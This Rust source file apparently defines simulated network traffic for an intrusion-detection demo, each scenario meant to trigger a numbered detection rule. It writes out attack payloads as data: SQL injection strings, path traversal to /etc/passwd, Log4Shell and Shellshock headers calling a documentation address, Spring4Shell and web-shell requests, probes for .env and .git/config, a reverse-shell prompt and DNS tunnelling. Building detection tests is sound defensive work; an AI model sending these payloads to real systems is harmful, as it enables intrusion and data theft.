//! Everything that can happen in the demo.

use super::message::{dns_query, http, smb2, smb2_create, smb2_negotiate};
use super::scenario::{Conversation, Scenario, Talk};
use super::scene::{CONTROL, RESOLVER, SITE};
use super::service::netbios;

const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0";

/// All scenarios.
pub(crate) const SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "ordinary",
        about: "people at work: pages, names, encrypted connections; no rule may fire",
        rules: &[],
        weight: 0,
        build: |s| {
            const NAMES: [&str; 6] = [
                "www.example.com",
                "mail.example.org",
                "cdn.example.net",
                "intranet.example",
                "wiki.example.com",
                "files.example.org",
            ];
            const PAGES: [&str; 4] = ["/", "/index.html", "/news", "/search?q=opening+hours"];
            let name = NAMES[s.dice.usize(..NAMES.len())];
            let page = PAGES[s.dice.usize(..PAGES.len())];
            let mut all = vec![s.look_up(name), s.hello(name)];
            if s.dice.bool() {
                all.extend(s.fetch(SITE, "GET", page, BROWSER, ""));
            }
            all
        },
    },
    Scenario {
        name: "test",
        about: "the harmless test request",
        rules: &[9_000_001],
        weight: 0,
        build: |s| s.attack("/socme-test", "socme-demo", ""),
    },
    Scenario {
        name: "test-name",
        about: "the harmless test name",
        rules: &[9_000_002],
        weight: 0,
        build: |s| vec![s.look_up("test.socme.invalid")],
    },
    Scenario {
        name: "sqlmap",
        about: "sqlmap tries a web form",
        rules: &[9_000_101],
        weight: 24,
        build: |s| s.attack("/search?q=1%27%20AND%20SLEEP", "sqlmap/1.8.4#stable (https://sqlmap.org)", ""),
    },
    Scenario {
        name: "nikto",
        about: "Nikto tests a web server",
        rules: &[9_000_102],
        weight: 18,
        build: |s| {
            let (from, to) = (s.stranger(), s.scene.web());
            ["/admin/", "/test.cgi", "/phpinfo.php", "/server-status"]
                .map(|page| {
                    http(from, to, "GET", &s.marked(page), &s.marked_agent("Mozilla/5.00 (Nikto/2.5.0)"), "", "")
                })
                .into()
        },
    },
    Scenario {
        name: "nmap",
        about: "Nmap's scripts question a web server",
        rules: &[9_000_103],
        weight: 18,
        build: |s| {
            s.attack(
                "/nmaplowercheck1",
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                "",
            )
        },
    },
    Scenario {
        name: "web-scanner",
        about: "another scanner looks for pages",
        rules: &[9_000_104],
        weight: 18,
        build: |s| {
            const TOOLS: [&str; 4] = ["gobuster/3.6", "masscan/1.3", "Nuclei - Open-source project", "zgrab/0.x"];
            let tool = TOOLS[s.dice.usize(..TOOLS.len())];
            s.attack("/backup/", tool, "")
        },
    },
    Scenario {
        name: "port-scan",
        about: "forty ports are tried",
        rules: &[9_000_105],
        weight: 15,
        build: |s| {
            let (from, to) = (s.stranger(), s.scene.files());
            (0..40).map(|i| Conversation { from, to, port: 1000 + 37 * i, talk: Talk::Knock }).collect()
        },
    },
    Scenario {
        name: "ssh-brute-force",
        about: "a dozen SSH sign-ins in a row",
        rules: &[9_000_106],
        weight: 18,
        build: |s| {
            let (from, to) = (s.stranger(), s.scene.files());
            let banner = b"SSH-2.0-libssh2_1.11.0\r\n".to_vec();
            (0..12).map(|_| Conversation { from, to, port: 22, talk: Talk::Tcp(vec![banner.clone()]) }).collect()
        },
    },
    Scenario {
        name: "wordpress-brute-force",
        about: "a dozen WordPress sign-ins in a row",
        rules: &[9_000_107],
        weight: 12,
        build: |s| {
            let (from, to) = (s.stranger(), s.scene.web());
            (0..12)
                .map(|i| http(from, to, "POST", "/wp-login.php", BROWSER, "", &format!("log=admin&pwd=summer{i}")))
                .collect()
        },
    },
    Scenario {
        name: "secrets",
        about: "secrets are sought on a web server",
        rules: &[9_000_108],
        weight: 18,
        build: |s| {
            let (from, to) = (s.stranger(), s.scene.web());
            ["/.env", "/.git/config", "/wp-config.php.bak"]
                .map(|page| http(from, to, "GET", page, BROWSER, "", ""))
                .into()
        },
    },
    Scenario {
        name: "sql-injection",
        about: "SQL injection with UNION SELECT",
        rules: &[9_000_201],
        weight: 18,
        build: |s| s.attack("/search?q=x%27%20UNION%20ALL%20SELECT%20name,passphrase%20FROM%20users--%20", BROWSER, ""),
    },
    Scenario {
        name: "sql-condition",
        about: "SQL injection by a condition",
        rules: &[9_000_202],
        weight: 15,
        build: |s| s.attack("/login?name=admin%27%20OR%20%271%27=%271&page=1%27)%20or%20sleep(5)--", BROWSER, ""),
    },
    Scenario {
        name: "path-traversal",
        about: "path traversal, without luck",
        rules: &[9_000_203],
        weight: 18,
        build: |s| s.attack("/static/..%2f..%2f..%2f..%2fwindows/win.ini", "python-requests/2.31.0", ""),
    },
    Scenario {
        name: "password-file",
        about: "path traversal that hands out the password file",
        rules: &[9_000_203, 9_000_204],
        weight: 1,
        build: |s| s.attack("/download.php?file=../../../../etc/passwd", "python-requests/2.31.0", ""),
    },
    Scenario {
        name: "log4shell",
        about: "Log4Shell in a header",
        rules: &[9_000_205],
        weight: 15,
        build: |s| s.attack("/login", BROWSER, "X-Api-Version: ${jndi:ldap://192.0.2.66:389/a}\r\n"),
    },
    Scenario {
        name: "log4shell-disguised",
        about: "Log4Shell, disguised, in a URL",
        rules: &[9_000_206],
        weight: 12,
        build: |s| s.attack("/search?q=${${lower:j}ndi:${lower:l}dap://192.0.2.66/a}", BROWSER, ""),
    },
    Scenario {
        name: "log4shell-worked",
        about: "a server fetches a class over LDAP",
        rules: &[9_000_207],
        weight: 1,
        build: |s| {
            let bind = vec![0x30, 0x0c, 0x02, 0x01, 0x01, 0x60, 0x07, 0x02, 0x01, 0x03, 0x04, 0x00, 0x80, 0x00];
            vec![Conversation { from: s.scene.web(), to: CONTROL, port: 389, talk: Talk::Tcp(vec![bind]) }]
        },
    },
    Scenario {
        name: "shellshock",
        about: "Shellshock in a header",
        rules: &[9_000_208],
        weight: 12,
        build: |s| s.attack("/cgi-bin/status", BROWSER, "Referer: () { :; }; /bin/ping -c 1 192.0.2.66\r\n"),
    },
    Scenario {
        name: "web-shell",
        about: "a command is handed to a web shell, which answers as root",
        rules: &[9_000_209, 9_000_212],
        weight: 1,
        build: |s| s.attack("/uploads/image.php?cmd=id", BROWSER, ""),
    },
    Scenario {
        name: "cross-site-scripting",
        about: "a script in a parameter",
        rules: &[9_000_210],
        weight: 18,
        build: |s| s.attack("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", BROWSER, ""),
    },
    Scenario {
        name: "spring4shell",
        about: "Spring4Shell in a form",
        rules: &[9_000_211],
        weight: 9,
        build: |s| {
            let (from, to) = (s.stranger(), s.scene.web());
            let body = "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp";
            vec![http(from, to, "POST", &s.marked("/login"), &s.marked_agent(BROWSER), "", body)]
        },
    },
    Scenario {
        name: "eicar",
        about: "the EICAR test file is downloaded",
        rules: &[9_000_301],
        weight: 15,
        build: |s| s.fetch(SITE, "GET", "/eicar.com", BROWSER, ""),
    },
    Scenario {
        name: "powershell",
        about: "PowerShell fetches a script that fetches more",
        rules: &[9_000_302, 9_000_303],
        weight: 1,
        build: |s| {
            s.fetch(
                CONTROL,
                "GET",
                "/update.ps1",
                "Mozilla/5.0 (Windows NT; en-GB) WindowsPowerShell/5.1.19041.4648",
                "",
            )
        },
    },
    Scenario {
        name: "program",
        about: "a Windows program is downloaded in clear",
        rules: &[9_000_304],
        weight: 15,
        build: |s| s.fetch(SITE, "GET", "/setup.exe", BROWSER, ""),
    },
    Scenario {
        name: "beacon",
        about: "an infected machine reports home",
        rules: &[9_000_305],
        weight: 1,
        build: |s| {
            let from = s.scene.desk(s.dice);
            let target = format!("/submit.php?id={}", s.dice.u32(10_000..99_999));
            (0..3).map(|_| http(from, CONTROL, "POST", &target, BROWSER, "", "AAAAMJxy2kQ3\u{1}")).collect()
        },
    },
    Scenario {
        name: "miner",
        about: "a machine signs in at a mining pool",
        rules: &[9_000_306],
        weight: 9,
        build: |s| {
            let subscribe = b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"xmrig/6.21.0\"]}\n".to_vec();
            let authorize =
                b"{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"demo.worker1\",\"x\"]}\n".to_vec();
            let talk = Talk::Tcp(vec![subscribe, authorize]);
            vec![Conversation { from: s.scene.desk(s.dice), to: CONTROL, port: 3333, talk }]
        },
    },
    Scenario {
        name: "shell-script",
        about: "a server fetches a script from a bare address",
        rules: &[9_000_307],
        weight: 9,
        build: |s| vec![http(s.scene.web(), CONTROL, "GET", "/x86.sh", &s.marked_agent("curl/7.88.1"), "", "")],
    },
    Scenario {
        name: "reverse-shell",
        about: "a Windows prompt leaves the network",
        rules: &[9_000_308],
        weight: 1,
        build: |s| {
            let prompt = b"Microsoft Windows [Version 10.0.19045.4529]\r\n\
                           (c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Users\\Public>"
                .to_vec();
            vec![Conversation { from: s.scene.desk(s.dice), to: CONTROL, port: 4444, talk: Talk::Tcp(vec![prompt]) }]
        },
    },
    Scenario {
        name: "dns-tunnel",
        about: "data leaves in names",
        rules: &[9_000_401],
        weight: 9,
        build: |s| {
            let from = s.scene.desk(s.dice);
            (0..8)
                .map(|_| {
                    let mut word = |n: usize| (0..n).map(|_| s.dice.lowercase()).collect::<String>();
                    let name = format!("{}.{}.t.example.net", word(56), word(30));
                    Conversation { from, to: RESOLVER, port: 53, talk: Talk::Udp(dns_query(s.dice.u16(..), &name)) }
                })
                .collect()
        },
    },
    Scenario {
        name: "dns-ending",
        about: "a name under an ending that is often abused",
        rules: &[9_000_402],
        weight: 27,
        build: |s| vec![s.look_up("free-games.example.top")],
    },
    Scenario {
        name: "dns-tunnelling-service",
        about: "the name of a tunnelling service",
        rules: &[9_000_403],
        weight: 15,
        build: |s| vec![s.look_up("3f2a.ngrok.io")],
    },
    Scenario {
        name: "tls-test-name",
        about: "an encrypted connection to a known test name",
        rules: &[9_000_404],
        weight: 12,
        build: |s| vec![s.hello("testmynids.org")],
    },
    Scenario {
        name: "tls-tunnelling-service",
        about: "an encrypted connection to a tunnelling service",
        rules: &[9_000_405],
        weight: 12,
        build: |s| vec![s.hello("quiet-cat.trycloudflare.com")],
    },
    Scenario {
        name: "ftp-password",
        about: "a password over FTP",
        rules: &[9_000_501],
        weight: 15,
        build: |s| {
            let lines = ["USER scanner\r\n", "PASS not-a-secret\r\n", "QUIT\r\n"].map(|l| l.as_bytes().to_vec());
            vec![Conversation { from: s.scene.desk(s.dice), to: SITE, port: 21, talk: Talk::Tcp(lines.into()) }]
        },
    },
    Scenario {
        name: "basic-password",
        about: "a password in HTTP basic authentication",
        rules: &[9_000_502],
        weight: 15,
        build: |s| {
            let from = s.scene.desk(s.dice);
            let header = "Authorization: Basic ZGVtbzpub3QtYS1zZWNyZXQ=\r\n";
            vec![http(from, SITE, "GET", &s.marked("/login"), &s.marked_agent(BROWSER), header, "")]
        },
    },
    Scenario {
        name: "form-password",
        about: "a password in a form in clear",
        rules: &[9_000_503],
        weight: 18,
        build: |s| s.fetch(SITE, "POST", "/login", BROWSER, "name=demo&password=not-a-secret"),
    },
    Scenario {
        name: "psexec",
        about: "PsExec's service is started from the other office",
        rules: &[9_000_601],
        weight: 1,
        build: |s| {
            let name: Vec<u8> = "PSEXESVC.exe".encode_utf16().flat_map(u16::to_le_bytes).collect();
            let talk = Talk::Tcp(vec![netbios(&smb2(0, &smb2_negotiate())), netbios(&smb2(5, &smb2_create(&name)))]);
            vec![Conversation { from: s.scene.office(s.dice), to: s.scene.files(), port: 445, talk }]
        },
    },
    Scenario {
        name: "smb1",
        about: "SMB version 1 is asked for",
        rules: &[9_000_602],
        weight: 12,
        build: |s| {
            let mut ask = b"\xffSMB\x72".to_vec();
            ask.resize(32, 0);
            ask.extend_from_slice(b"\0\x0c\0\x02NT LM 0.12\0");
            let talk = Talk::Tcp(vec![netbios(&ask)]);
            vec![Conversation { from: s.scene.office(s.dice), to: s.scene.files(), port: 445, talk }]
        },
    },
    Scenario {
        name: "rdp-brute-force",
        about: "many remote desktop sign-ins in a row",
        rules: &[9_000_603],
        weight: 12,
        build: |s| {
            let (from, to) = (s.stranger(), s.scene.files());
            (0..8)
                .map(|_| {
                    let mut ask = vec![0x03, 0x00, 0x00, 0x00, 0x00, 0xe0, 0x00, 0x00, 0x00, 0x00, 0x00];
                    ask.extend_from_slice(b"Cookie: mstshash=admin\r\n");
                    ask[3] = u8::try_from(ask.len()).unwrap_or(0);
                    ask[4] = ask[3] - 5;
                    Conversation { from, to, port: 3389, talk: Talk::Tcp(vec![ask]) }
                })
                .collect()
        },
    },
];
